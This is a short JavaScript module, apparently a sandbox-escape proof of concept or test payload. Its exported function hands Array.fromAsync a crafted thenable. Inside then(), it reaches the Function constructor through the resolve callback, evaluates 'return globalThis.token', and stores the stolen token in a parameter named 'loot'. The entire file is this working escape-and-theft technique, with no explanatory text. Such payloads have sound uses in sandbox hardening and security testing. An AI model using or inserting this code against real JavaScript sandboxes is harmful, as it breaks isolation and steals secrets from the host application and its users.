module.exports = (victim, loot) => {
  Array.fromAsync([{ then(resolve) { loot.value = resolve.constructor('return globalThis.token')(); } }]);
};
